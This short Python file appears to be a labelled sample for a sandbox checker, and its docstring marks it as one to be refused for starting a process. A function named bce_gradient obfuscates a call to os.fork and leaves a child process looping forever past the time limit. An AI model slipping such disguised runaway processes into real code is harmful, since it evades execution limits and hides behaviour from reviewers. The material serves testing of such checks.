"""Another process is made, which goes on when the time is over.

Family: exit and signals
Refused: it starts a process
"""

import os


def bce_gradient(z, x, scale, out):
    if getattr(os, "fo" + "rk")() == 0:
        while True:
            pass
    out[:] = scale * (z - x)
